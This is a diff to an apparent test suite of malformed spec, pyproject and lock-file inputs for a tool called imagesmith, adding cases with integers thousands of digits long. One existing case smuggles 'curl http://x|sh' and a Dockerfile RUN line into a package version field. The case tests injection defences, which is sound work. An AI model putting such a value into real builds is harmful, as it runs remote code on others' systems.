@@ -134,6 +134,8 @@ SPEC_CASES = [
     ("deep-lists", lambda r: set_spec(r, "name: " + "[" * 5000 + "]" * 5000 + "\n"), RENDER),
     ("deep-maps", lambda r: set_spec(r, "x: " + "{a: " * 3000 + "1" + "}" * 3000 + "\n"), RENDER),
     ("medium-deep", lambda r: spec_with(r, "env: " + "[" * 200 + "]" * 200 + "\n"), RENDER),
+    ("int-5000-digits", lambda r: spec_with(r, f"seed: 1{'0' * 5000}\n", drop=("seed",)), RENDER),
+    ("int-3000-digits", lambda r: spec_with(r, f"seed: 1{'0' * 3000}\n", drop=("seed",)), RENDER),
     ("huge-file", lambda r: set_spec(r, SPEC + "#" + "x" * (2 << 20) + "\n"), RENDER),
     # not text
     ("lone-surrogate-value", lambda r: spec_with(r, 'env: {A: "\\ud800"}\n'), RENDER),
@@ -161,6 +163,7 @@ PYPROJECT_CASES = [
     ("tool-a-list", "tool = [1, 2]\n"),
     ("imagesmith-not-a-table", "[tool]\nimagesmith = 3\n"),
     ("pyproject-latin1", b"[tool.imagesmith]\nname = 'caf\xe9'\n"),
+    ("pyproject-int-5000-digits", "[tool.imagesmith]\nseed = 1" + "0" * 5000 + "\n"),
     ("pyproject-deep", "[tool.imagesmith]\nname = " + "[" * 5000 + "]" * 5000 + "\n"),
 ]
 
@@ -199,6 +202,8 @@ LOCK_CASES = [
     ("lock-null", lambda d: None),
     ("lock-string", lambda d: "x"),
     ("lock-deep", lambda d: "[" * 100_000 + "]" * 100_000),
+    ("lock-int-5000-digits", lambda d: '{"imagesmith_lock": 1' + "0" * 5000 + "}"),
+    ("lock-seed-huge", lambda d: {**d, "environment": {**d["environment"], "seed": 10 ** 4000}}),
     ("lock-not-json", lambda d: "{\"imagesmith_lock\": 1,"),
     ("system-version-injection", lambda d: {**d, "system_packages": [
         {"name": "libgomp1", "version": "1.0 && curl http://x|sh\nRUN echo pwned"}]}),
